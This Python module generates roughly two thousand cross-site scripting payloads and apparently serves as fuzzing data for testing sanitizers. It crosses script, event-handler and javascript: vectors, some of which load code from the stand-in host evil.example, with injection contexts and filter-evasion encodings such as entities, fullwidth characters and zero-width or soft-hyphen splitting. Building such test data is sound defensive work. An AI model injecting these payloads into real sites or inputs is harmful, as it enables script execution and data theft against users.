"""Some two thousand ways to mean harm: what would run, where it would stand, how it is written.

A payload is one of each: a vector in a context in an encoding. Every vector
meets every context, in three of the encodings each, turn by turn; so the same
ones come at every run, and a new line in a table is a hundred new payloads.
"""

from __future__ import annotations

import html
from collections.abc import Callable
from typing import Final
from urllib.parse import quote

__all__ = ["PAYLOADS", "SHORT"]

VECTORS: Final = (
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/x.png>",
    "<svg onload=alert(1)>",
    "<svg><script href='data:,alert(1)'/>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=//evil.example/x>",
    "<embed src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x",
    "<marquee onstart=alert(1)>x",
    "<video><source onerror=alert(1)>",
    "<audio src=//evil.example/x onerror=alert(1)>",
    "<math><mtext><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<form action=//evil.example><button>x",
    "<button form=f formaction=javascript:alert(1)>x",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';*{display:none}</style>",
    "<p style=\"background:url('//evil.example/x')\">x",
    "<a href=javascript:alert(1)>x</a>",
    "<x-y onclick=alert(1) tabindex=0>x",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:alert(1)",
    "constructor.constructor('alert(1)')()",
)
CONTEXTS: Final = (
    "{}",
    '">{}',
    "'>{}",
    "x` {}",
    "</title></textarea></style></script>{}",
    "-->{}<!--",
    "]]>{}<![CDATA[",
    "[press]({})",
    "[{}](https://harbor.example/)",
    "![x]({})",
    "<{}>",
    "`{}`",
    "```html\n{}\n```",
    "> {}",
    "- {}\n- {}",
    "**{}** ~~{}~~",
    "[a]: {}\n[a]",
    "@{}",
    "{{{{ {} }}}} ${{{}}}",
    "https://harbor.example/?q={}#{}",
)


def _entities(text: str) -> str:
    return "".join(f"&#{ord(letter)};" if letter in "<>\"'&:/" else letter for letter in text)


def _escaped(text: str) -> str:
    return text.replace("<", "\\u003c").replace(">", "\\x3e")


def _wide(text: str) -> str:
    return text.translate({ord("<"): "＜", ord(">"): "＞", ord(":"): "：", ord("/"): "／"})


def _mixed(text: str) -> str:
    return "".join(c.upper() if n % 2 else c for n, c in enumerate(text))


def _broken(text: str) -> str:
    """With what some readers of schemes and tags pass over: a tab, a soft hyphen, no width."""
    return text.replace("script", "scr\tipt").replace("on", "o\u00adn").replace("<", "<\u200b")


ENCODINGS: Final[tuple[Callable[[str], str], ...]] = (
    str,
    html.escape,
    _entities,
    lambda text: html.escape(html.escape(text)),
    quote,
    _escaped,
    _wide,
    _mixed,
    _broken,
)
_TURNS: Final = (0, 3, 7)

PAYLOADS: Final = tuple(
    context.format(*(ENCODINGS[(at + nth + turn) % len(ENCODINGS)](vector),) * 2)
    for at, context in enumerate(CONTEXTS)
    for nth, vector in enumerate(VECTORS)
    for turn in _TURNS
)
SHORT: Final = tuple(payload for payload in PAYLOADS if len(payload) <= 60)
"""Those that a name, a note, a title and what is written on a door can hold."""
